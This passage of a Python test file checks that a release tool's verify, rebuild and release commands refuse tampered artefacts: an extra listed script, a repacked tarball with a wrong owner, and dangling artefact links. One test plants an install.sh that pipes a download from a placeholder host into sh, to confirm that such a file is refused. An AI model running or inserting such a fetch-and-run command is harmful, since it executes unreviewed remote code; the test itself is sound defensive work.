    """A script beside the release's files, with its SHA256SUMS line: no file the release does not make passes."""
    download = released.download(tmp_path / "download")
    (download / "install.sh").write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
    _resum(download)
    words = f"SHA256SUMS lists install.sh, a file the release {TAG} does not make (it makes 7:"
    assert_refused(run_nox("verify", released.env(), [TAG, "--artefacts", str(download)]), words)
    assert_refused(_rebuild(released, download), words)
    assert not (download.parent / "w").exists(), "refused before anything was built"


@pytest.mark.refuses("verify-rebuild-tarball-member-owner-mode-mtime")
def test_rebuild_of_a_tarball_whose_member_is_owned_by_a_user_refused(released: Release, tmp_path: Path) -> None:
    """The PGO tarball repacked with the same binary owned by uid 1000, every sha256 made to agree: rebuild reads
    it under verify's rules and stops before building."""
    download = released.download(tmp_path / "download")
    manifest = released.manifest()
    pgo = manifest["artefacts"]["pgo"]
    binary = _binary(download / pgo["file"], pgo["binary"].split("/")[0])
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in ((pgo["binary"].split("/")[0], None), (pgo["binary"], binary)):
            info = tarfile.TarInfo(name)
            info.mode, info.mtime = 0o755, manifest["source_date_epoch"]
            if data is None:
                info.type = tarfile.DIRTYPE
            else:
                info.size, info.uid = len(data), 1000
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    tarball = gzip.compress(raw.getvalue(), mtime=0)
    (download / pgo["file"]).write_bytes(tarball)
    _edit_manifest(download, artefacts__pgo__sha256=sha256_bytes(tarball))
    line = assert_refused(_rebuild(released, download), f"{pgo['file']} has '{pgo['binary']}' owned by uid 1000 gid 0")
    assert "it is not a tarball the release writes" in line
    assert not (download.parent / "w" / "rebuild" / TAG / "stripped").exists(), "refused before anything was built"


@pytest.mark.refuses(
    "verify-rebuild-artefacts-folder-dangling-symbolic-link", "release-artefacts-folder-dangling-symbolic-link-under"
)
def test_release_into_a_dangling_artefacts_link_refused_before_any_build(released: Release, tmp_path: Path) -> None:
    link = tmp_path / "dist-link"
    link.symlink_to(tmp_path / "gone")
    env = released.env(PGO_OUT=str(tmp_path / "work"))
    line = assert_refused(
        run_nox("release", env, [TAG, "--artefacts", str(link)]),
        f"the release folder {link} is a dangling symbolic link (to {tmp_path / 'gone'})",
    )
    assert "give --artefacts a folder that does not exist yet" in line
    (tmp_path / "afile").write_text("not a directory\n")
    assert_refused(
        run_nox("release", env, [TAG, "--artefacts", str(tmp_path / "afile" / TAG)]),
        f"the release folder {tmp_path / 'afile' / TAG} cannot be made: {tmp_path / 'afile'} is not a directory",
    )
    assert not (tmp_path / "work").exists(), "refused before anything was built"
    assert not (tmp_path / "gone").exists()
    assert_refused(
        run_nox("verify", env, [TAG, "--artefacts", str(link)]),
        f"no artefacts of {TAG} at {link}: it is a dangling symbolic link",
    )
